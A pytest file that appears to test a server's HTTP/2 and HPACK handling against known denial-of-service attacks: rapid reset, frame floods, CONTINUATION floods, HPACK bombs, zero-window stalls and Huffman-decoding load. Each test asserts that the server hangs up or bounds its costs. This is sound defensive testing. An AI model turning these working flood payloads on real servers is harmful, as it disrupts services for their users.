"""What HTTP/2 lets a client do to a server: work for nothing, answers that nobody takes, heads without end.

The attackers are anonymous where that is enough. Each attack either ends with the server hanging up, or is served at a
bounded price.
"""

from __future__ import annotations

import select
import socket
import ssl
from collections.abc import Iterator
from contextlib import ExitStack, contextmanager
from typing import Any

import hpack
import hpack.huffman
import pytest
from hpack.huffman_constants import REQUEST_CODES, REQUEST_CODES_LENGTH

from pilothouse.net.http2 import frames
from pilothouse.net.http2.hpack import encode_integer

MEGABYTE = 1024 * 1024
WATCH = "/api/v1/namespaces/default/configmaps?watch=1"


class Attacker:
    """A connection that sends whatever it is told, without reading unless asked."""

    def __init__(self, connection: ssl.SSLSocket, settings: list[tuple[int, int]]) -> None:
        self._connection = connection
        self._encoder = hpack.Encoder()
        self.send(frames.PREFACE + frames.settings(settings))

    def ask(self, number: int, path: str = "/version", flags: int = frames.END_STREAM) -> bytes:
        fields = [(":method", "GET"), (":scheme", "https"), (":path", path), (":authority", "x")]
        return frames.headers(number, bytes(self._encoder.encode(fields)), flags)

    def create(self, number: int, path: str, body: bytes) -> bytes:
        fields = [(":method", "POST"), (":scheme", "https"), (":path", path), (":authority", "x")]
        encoded = bytes(self._encoder.encode([*fields, ("content-type", "application/json")]))
        head = frames.headers(number, encoded, 0)
        return head + frames.header(len(body), frames.DATA, frames.END_STREAM, number) + body

    def send(self, data: bytes) -> bool:
        """Send what the server takes; False once it takes no more for a second, or has hung up."""
        self._connection.setblocking(False)
        while data:
            try:
                data = data[self._connection.send(data[:16384]) :]
            except ssl.SSLWantWriteError:
                if not select.select([], [self._connection], [], 1.0)[1]:
                    return False
            except OSError:
                return False
        return True

    def flood(self, data: bytes) -> None:
        """Send it again and again, until the server has enough of it."""
        for _ in range(200):
            if not self.send(data):
                return

    def answers(self, count: int) -> int:
        """Read until so many answers have ended; how many did before the server hung up."""
        self._connection.settimeout(120)
        data, ended = b"", 0
        while ended < count and (piece := self._connection.recv(65536)):
            data += piece
            while len(data) >= 9:
                high, low, kind, flags, _ = frames.HEADER.unpack_from(data)
                length = high << 8 | low
                if len(data) < 9 + length:
                    break
                ended += kind in (frames.DATA, frames.HEADERS) and bool(flags & frames.END_STREAM)
                data = data[9 + length :]
        return ended

    def code(self) -> int | None:
        """The code with which the server ended the connection; None if what is still sent made it a reset."""
        self._connection.settimeout(120)
        data = b""
        try:
            while piece := self._connection.recv(65536):
                data += piece
        except TimeoutError:
            pytest.fail("the server goes on listening")
        except OSError:
            pass
        code = None
        while len(data) >= 9:
            high, low, kind, _, _ = frames.HEADER.unpack_from(data)
            length = high << 8 | low
            if kind == frames.GOAWAY:
                code = int.from_bytes(data[13:17], "big")
            data = data[9 + length :]
        return code


@contextmanager
def attacker(
    victim: Any, settings: list[tuple[int, int]] | None = None, *, anonymous: bool = True
) -> Iterator[Attacker]:
    context = victim.tls(anonymous=anonymous)
    context.set_alpn_protocols(["h2"])
    with context.wrap_socket(socket.create_connection(("127.0.0.1", victim.port)), server_hostname="127.0.0.1") as each:
        assert each.selected_alpn_protocol() == "h2"
        yield Attacker(each, settings or [])


def test_rapid_reset(victim: Any) -> None:
    """CVE-2023-44487: requests that are cancelled at once, so that there are never too many."""
    with victim.attacked("HTTP/2 rapid reset of watches"), attacker(victim, anonymous=False) as client:
        number = 1
        wire = b""
        while number < 40_000:
            wire += client.ask(number, WATCH) + frames.rst_stream(number, frames.CANCEL)
            number += 2
            if len(wire) > 8192:
                if not client.send(wire):
                    break
                wire = b""
        assert client.code() in (None, frames.ENHANCE_YOUR_CALM)


def test_rapid_reset_on_many_connections(victim: Any) -> None:
    """Two hundred requests each, so that few connections make a long turn of the loop."""
    with victim.attacked("HTTP/2 rapid reset on 50 connections"), ExitStack() as stack:
        clients = [stack.enter_context(attacker(victim, anonymous=False)) for _ in range(50)]
        for client in clients:
            pairs = (
                client.ask(number, WATCH) + frames.rst_stream(number, frames.CANCEL) for number in range(1, 400, 2)
            )
            client.send(b"".join(pairs))


def test_creates_on_many_connections(victim: Any) -> None:
    """A hundred each, so that commits are long: whoever wrote hears of it in turns with others."""
    path, count = "/api/v1/namespaces/default/configmaps", 100
    with ExitStack() as stack:
        clients = [stack.enter_context(attacker(victim, anonymous=False)) for _ in range(10)]
        with victim.attacked("HTTP/2: 100 creates on each of 10 connections"):
            for place, client in enumerate(clients):
                names = [f"created-{place}-{number}" for number in range(count)]
                bodies = [b'{"metadata":{"name":"%b"}}' % name.encode() for name in names]
                assert client.send(b"".join(client.create(2 * at + 1, path, body) for at, body in enumerate(bodies)))
            assert [client.answers(count) for client in clients] == [count] * len(clients)


@pytest.mark.parametrize(
    ("name", "flood"),
    [
        ("pings", frames.header(8, frames.PING, 0, 0) + b"12345678"),
        ("settings", frames.settings([(frames.INITIAL_WINDOW_SIZE, 1000)])),
        ("priorities", frames.header(5, frames.PRIORITY, 0, 1) + b"\0\0\0\0\1"),
        ("unknown frames", frames.header(0, 0xEE, 0, 1)),
        ("resets", frames.rst_stream(1, frames.CANCEL)),
        ("windows of no use", frames.window_update(0, 1)),
    ],
)
def test_floods(victim: Any, name: str, flood: bytes) -> None:
    """CVE-2019-9512, 9513, 9515: frames that want nothing, or an acknowledgement that is not read."""
    with victim.attacked(f"HTTP/2 flood of {name}"), attacker(victim) as client:
        client.send(client.ask(1))
        client.flood(flood * 500)
        assert client.code() in (None, frames.ENHANCE_YOUR_CALM)


def test_empty_data(victim: Any) -> None:
    """CVE-2019-9518: a body of pieces without content."""
    with victim.attacked("HTTP/2 empty data"), attacker(victim) as client:
        client.send(client.ask(1, flags=0))
        client.flood(frames.header(0, frames.DATA, 0, 1) * 500)
        assert client.code() in (None, frames.ENHANCE_YOUR_CALM)


@pytest.mark.parametrize("piece", [b"", b"\x82" * 16000], ids=["empty", "full"])
def test_head_without_end(victim: Any, piece: bytes) -> None:
    """CVE-2024-27316 and kin: a head that is continued for ever."""
    with victim.attacked("HTTP/2 continuation flood"), attacker(victim) as client:
        client.send(frames.header(1, frames.HEADERS, 0, 1) + b"\x82")
        client.flood((frames.header(len(piece), frames.CONTINUATION, 0, 1) + piece) * (10 if piece else 500))
        assert client.code() in (None, frames.ENHANCE_YOUR_CALM)


def test_compressed_bomb(victim: Any) -> None:
    """A block of kilobytes that means megabytes."""
    with victim.attacked("HPACK bomb"):
        for _ in range(20):
            with attacker(victim) as client:
                entry = b"\x40\x01a\x7f\xa1\x1e" + b"x" * 4000
                client.send(frames.headers(1, entry + b"\xbe" * 16000 * 60, frames.END_STREAM))
                assert client.code() in (None, frames.ENHANCE_YOUR_CALM)


def test_answers_behind_closed_windows(victim: Any) -> None:
    """CVE-2019-9517 and kin: many large answers asked for, none let out."""
    with victim.attacked("HTTP/2 zero windows, 20 connections with 100 answers each"):
        clients = [attacker(victim, [(frames.INITIAL_WINDOW_SIZE, 0)]) for _ in range(20)]
        opened = [each.__enter__() for each in clients]
        for client in opened:
            assert client.send(b"".join(client.ask(number, "/openapi/v2") for number in range(1, 200, 2)))
        assert victim.call("GET", "/openapi/v2").status == 200
        for each in clients:
            each.__exit__(None, None, None)


def test_lists_of_large_objects_on_many_connections(victim: Any) -> None:
    """Answers of megabytes, hundreds at once, all of them let out as far as the sockets take them.

    Of each, one piece of 64 KB is on its way, and as much room again.
    """
    connections, streams = 10, 40
    data = {f"k{number}": "v" * 20 for number in range(24_000)}
    for number in range(3):
        made = {"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": f"large-{number}"}, "data": data}
        assert victim.call("POST", "/api/v1/namespaces/default/configmaps", made).status == 201
    wide = [(frames.INITIAL_WINDOW_SIZE, frames.MAX_WINDOW)]
    allowance = 2 * connections * streams * (64 << 10)
    attacked = victim.attacked(f"HTTP/2 lists of large objects on {connections} connections", allowance=allowance)
    with attacked, ExitStack() as stack:
        for _ in range(connections):
            client = stack.enter_context(attacker(victim, wide, anonymous=False))
            lists = (client.ask(number, "/api/v1/configmaps") for number in range(1, 2 * streams, 2))
            client.send(frames.window_update(0, 1 << 30) + b"".join(lists))
        assert victim.call("GET", "/api/v1/configmaps").status == 200


def test_windows_byte_by_byte(victim: Any) -> None:
    """CVE-2019-9511: an answer taken in the smallest pieces."""
    with victim.attacked("HTTP/2 windows byte by byte"), attacker(victim, [(frames.INITIAL_WINDOW_SIZE, 0)]) as client:
        client.send(client.ask(1, "/version") + client.ask(3, "/openapi/v2"))
        client.flood(frames.window_update(3, 1) * 500)
        assert client.code() in (None, frames.ENHANCE_YOUR_CALM)


def test_answers_that_nobody_reads(victim: Any) -> None:
    """Windows are open, but the socket is not read: further requests wait."""
    wide = [(frames.INITIAL_WINDOW_SIZE, frames.MAX_WINDOW)]
    with victim.attacked("HTTP/2 requests without reading", allowance=24 * MEGABYTE):
        for _ in range(2):
            with attacker(victim, wide) as client:
                client.send(frames.window_update(0, 1 << 30))
                number = 1
                while number < 20_000 and client.send(b"".join(client.ask(n) for n in range(number, number + 100, 2))):
                    number += 100


@pytest.mark.parametrize(("count", "length"), [(1, 500_000), (100, 5_000)], ids=["one", "many"])
def test_long_strings_of_huffman_code(victim: Any, count: int, length: int) -> None:
    """Every byte of it is a step through the code: half a megabyte takes a tenth of a second."""
    coded = hpack.huffman.HuffmanEncoder(REQUEST_CODES, REQUEST_CODES_LENGTH).encode(b"aceiost0")
    fields = [(":method", "GET"), (":scheme", "https"), (":path", "/version"), (":authority", "x")]
    block = bytes(hpack.Encoder().encode(fields))
    for number in range(count):
        text = coded * (length // len(coded) + number)
        block += b"\0\1a" + encode_integer(len(text), 7, 0x80) + text
    with victim.attacked(f"HTTP/2 Huffman code, {count} of {length} bytes"):
        for _ in range(4):
            with attacker(victim) as client:
                client.send(frames.headers(1, block, frames.END_STREAM))
                assert client.answers(1) == 1


def test_settings_that_widen_many_streams(victim: Any) -> None:
    """Each lets a byte of a hundred answers out: a frame of ten bytes for each of them."""
    wider = b"".join(frames.settings([(frames.INITIAL_WINDOW_SIZE, size)]) for size in range(1, 2_000))
    shut = [(frames.INITIAL_WINDOW_SIZE, 0)]
    with victim.attacked("HTTP/2 settings that widen 100 streams"), attacker(victim, shut) as client:
        client.send(b"".join(client.ask(number, "/openapi/v2") for number in range(1, 200, 2)))
        client.send(wider)
        assert victim.call("GET", "/version").status == 200
